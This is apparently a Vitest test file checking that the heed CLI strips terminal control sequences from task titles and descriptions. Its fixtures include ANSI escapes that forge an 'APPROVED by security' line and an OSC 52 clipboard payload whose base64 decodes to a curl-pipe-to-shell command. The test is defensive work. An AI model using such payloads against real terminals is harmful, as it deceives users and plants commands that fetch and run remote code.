import { execFile } from 'node:child_process';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { testServer } from '../server/helpers.ts';

const CLI = join(import.meta.dirname, '..', '..', 'src', 'cli', 'main.ts');

describe('heed CLI output of attacker-controlled task text', () => {
  it('does not pass terminal control sequences from titles and descriptions to the terminal', async () => {
    const s = await testServer();
    const task = await s.heed.tasks.create({
      type: 'approval',
      // Clears the screen and writes a fake line; OSC 52 could also set the clipboard.
      title: 'Harmless\u001b[2J\u001b[HAPPROVED by security',
      description: 'x\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007',
      assignees: ['user:ann'],
    });
    const env = { ...process.env, HEED_URL: s.url, NO_COLOR: '1' };
    const run = promisify(execFile);
    const list = await run(process.execPath, [CLI, 'tasks', '--as', 'user:ann'], { env });
    const show = await run(process.execPath, [CLI, 'show', task.id, '--as', 'user:ann'], { env });
    // Actual: ESC/BEL bytes printed raw by main.ts (table cells, console.log(task.description)).
    const controls = (text: string) => [...text].filter((ch) => ch === '\u001b' || ch === '\u0007');
    expect(controls(list.stdout)).toEqual([]);
    expect(controls(show.stdout)).toEqual([]);
  });
});
